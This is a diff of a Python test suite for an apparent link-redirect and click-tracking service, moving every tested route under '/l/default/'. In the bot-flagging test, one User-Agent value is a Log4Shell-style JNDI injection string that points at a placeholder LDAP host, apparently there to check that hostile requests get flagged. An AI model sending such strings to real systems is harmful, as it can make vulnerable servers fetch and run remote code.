@@ -44,7 +44,7 @@ def run(coro):
 def test_get_redirects_after_recording_the_click(engine, app, seeded):
     async def go():
         async with client(app) as c:
-            return await c.get("/l/mei-ig", headers={"user-agent": IG, "referer": "https://l.instagram.com/"})
+            return await c.get("/l/default/mei-ig", headers={"user-agent": IG, "referer": "https://l.instagram.com/"})
 
     r = run(go())
     assert r.status_code == 302
@@ -78,8 +78,8 @@ def test_unknown_slug_is_404_without_any_write(engine, app):
 def test_head_and_options_are_recorded_as_bots_and_post_is_refused(engine, app):
     async def go():
         async with client(app) as c:
-            return (await c.head("/l/mei-ig", headers={"user-agent": IG}), await c.options("/l/mei-ig"),
-                    await c.post("/l/mei-ig"), await c.get("/l/mei-ig/", headers={"user-agent": IG}))
+            return (await c.head("/l/default/mei-ig", headers={"user-agent": IG}), await c.options("/l/default/mei-ig"),
+                    await c.post("/l/default/mei-ig"), await c.get("/l/default/mei-ig/", headers={"user-agent": IG}))
 
     head, options, post, slash = run(go())
     assert head.status_code == 302 and "utm_content=meilin.eats" in head.headers["location"]
@@ -96,12 +96,12 @@ def test_head_and_options_are_recorded_as_bots_and_post_is_refused(engine, app):
 def test_bots_are_recorded_and_flagged(engine, app):
     async def go():
         async with client(app) as c:
-            await c.get("/l/mei-ig", headers={"user-agent": BOTS["facebookexternalhit"][0]})
-            await c.get("/l/mei-ig", headers={"user-agent": HUMANS["facebook_ios"][0], "x-purpose": "preview"})
-            await c.get("/l/mei-ig", headers={"user-agent": ""})
-            await c.get("/l/mei-ig", headers={"user-agent": "${jndi:ldap://198.51.100.7/a}"})
+            await c.get("/l/default/mei-ig", headers={"user-agent": BOTS["facebookexternalhit"][0]})
+            await c.get("/l/default/mei-ig", headers={"user-agent": HUMANS["facebook_ios"][0], "x-purpose": "preview"})
+            await c.get("/l/default/mei-ig", headers={"user-agent": ""})
+            await c.get("/l/default/mei-ig", headers={"user-agent": "${jndi:ldap://198.51.100.7/a}"})
         async with client(app, language=None) as c:
-            await c.get("/l/mei-ig", headers={"user-agent": HUMANS["chrome_windows"][0]})
+            await c.get("/l/default/mei-ig", headers={"user-agent": HUMANS["chrome_windows"][0]})
 
     run(go())
     assert [(r["is_bot"], r["bot_reason"], r["request_hints"]) for r in clicks(engine)] == [
@@ -115,10 +115,10 @@ def test_a_burst_from_one_visitor_on_one_link_is_suspect(engine, app, seeded):
     async def go():
         async with client(app, "168.95.1.1") as c:
             for _ in range(7):
-                await c.get("/l/mei-ig", headers={"user-agent": IG})
-            await c.get("/l/other", headers={"user-agent": IG})  # another link: its own count
+                await c.get("/l/default/mei-ig", headers={"user-agent": IG})
+            await c.get("/l/default/other", headers={"user-agent": IG})  # another link: its own count
         async with client(app, "8.8.8.8") as c:
-            await c.get("/l/mei-ig", headers={"user-agent": IG})  # another visitor
+            await c.get("/l/default/mei-ig", headers={"user-agent": IG})  # another visitor
 
     run(go())
     rows = clicks(engine)
@@ -129,11 +129,11 @@ def test_a_burst_from_one_visitor_on_one_link_is_suspect(engine, app, seeded):
 def test_visitor_hash_is_stable_per_visitor_and_the_ip_is_not_stored(engine, app):
     async def go():
         async with client(app, "168.95.1.1") as c:
-            await c.get("/l/mei-ig", headers={"user-agent": IG})
-            await c.get("/l/mei-ig", headers={"user-agent": IG})
-            await c.get("/l/mei-ig", headers={"user-agent": HUMANS["chrome_windows"][0]})
+            await c.get("/l/default/mei-ig", headers={"user-agent": IG})
+            await c.get("/l/default/mei-ig", headers={"user-agent": IG})
+            await c.get("/l/default/mei-ig", headers={"user-agent": HUMANS["chrome_windows"][0]})
         async with client(app, "8.8.8.8") as c:
-            await c.get("/l/mei-ig", headers={"user-agent": IG})
+            await c.get("/l/default/mei-ig", headers={"user-agent": IG})
 
     run(go())
     rows = clicks(engine)
@@ -164,7 +164,7 @@ def test_forwarded_for_is_used_only_behind_a_trusted_proxy(engine, seeded):
     async def go():
         for app in (trusting, plain):
             async with client(app, "127.0.0.1") as c:
-                await c.get("/l/t1", headers={"user-agent": IG, "x-forwarded-for": "213.42.20.20"})
+                await c.get("/l/default/t1", headers={"user-agent": IG, "x-forwarded-for": "213.42.20.20"})
 
     try:
         run(go())
@@ -177,7 +177,7 @@ def test_forwarded_for_is_used_only_behind_a_trusted_proxy(engine, seeded):
 def test_concurrent_clicks_are_each_stored_exactly_once(engine, app):
     async def go():
         async with client(app) as c:
-            return await asyncio.gather(*(c.get("/l/mei-ig", headers={"user-agent": IG}) for _ in range(300)))
+            return await asyncio.gather(*(c.get("/l/default/mei-ig", headers={"user-agent": IG}) for _ in range(300)))
 
     responses = run(go())
     keys = [parse_qs(urlsplit(r.headers["location"]).query)["isc"][0] for r in responses]
@@ -192,11 +192,11 @@ def test_a_click_that_cannot_be_stored_gets_503_and_others_still_succeed(engine,
 
     async def go():
         async with client(app) as c:
-            await c.head("/l/gone")  # caches the link
+            await c.head("/l/default/gone")  # caches the link
             with engine.begin() as conn:
-                conn.execute(t.links.delete().where(t.links.c.slug == "gone"))
+                conn.execute(t.links.delete().where(t.links.c.key == "gone"))
             return await asyncio.gather(*(c.get(s, headers={"user-agent": IG})
-                                          for s in ["/l/mei-ig"] * 5 + ["/l/gone"] + ["/l/mei-ig"] * 5))
+                                          for s in ["/l/default/mei-ig"] * 5 + ["/l/default/gone"] + ["/l/default/mei-ig"] * 5))
 
     responses = run(go())
     assert [r.status_code for r in responses] == [302] * 5 + [503] + [302] * 5
@@ -207,11 +207,11 @@ def test_a_click_that_cannot_be_stored_gets_503_and_others_still_succeed(engine,
 def test_changed_destination_is_served_after_the_cache_ttl(engine, app):
     async def go():
         async with client(app) as c:
-            first = await c.head("/l/mei-ig")
+            first = await c.head("/l/default/mei-ig")
             with engine.begin() as conn:
-                conn.execute(t.links.update().where(t.links.c.slug == "mei-ig")
+                conn.execute(t.links.update().where(t.links.c.key == "mei-ig")
                              .values(destination_url="https://new.example/"))
-            return first, await c.head("/l/mei-ig")
+            return first, await c.head("/l/default/mei-ig")
 
     first, second = run(go())  # cache_ttl=0 in this fixture
     assert first.headers["location"].startswith("https://shop.example.com/")
@@ -224,7 +224,7 @@ def test_non_ascii_destination(engine, app, seeded):
 
     async def go():
         async with client(app) as c:
-            return await c.get("/l/zh", headers={"user-agent": IG})
+            return await c.get("/l/default/zh", headers={"user-agent": IG})
 
     loc = run(go()).headers["location"]
     assert loc.startswith("https://xn--fsqu00a.xn--0zwm56d/%E8%8C%B6?%E5%8F%A3%E5%91%B3=%E7%B6%A0%E8%8C%B6&utm_")
@@ -240,7 +240,7 @@ def test_links_only_dispatcher_serves_the_redirect(engine, app, monkeypatch):
 
     async def go():
         async with client(server) as c:
-            return await c.get("/l/mei-ig", headers={"user-agent": IG}), await c.get("/healthz")
+            return await c.get("/l/default/mei-ig", headers={"user-agent": IG}), await c.get("/healthz")
 
     try:
         hit, other = run(go())
@@ -269,10 +269,10 @@ def test_server_shutdown_closes_the_click_sink(engine, app, links_only):
                                               inbox.get, send))
         await inbox.put({"type": "lifespan.startup"})
         async with client(server) as c:
-            before = await c.get("/l/mei-ig", headers={"user-agent": IG})
+            before = await c.get("/l/default/mei-ig", headers={"user-agent": IG})
             await inbox.put({"type": "lifespan.shutdown"})
             await asyncio.wait_for(lifespan, 10)
-            after = await c.get("/l/mei-ig", headers={"user-agent": IG})
+            after = await c.get("/l/default/mei-ig", headers={"user-agent": IG})
         return sent, before.status_code, after.status_code
 
     sent, before, after = run(go())
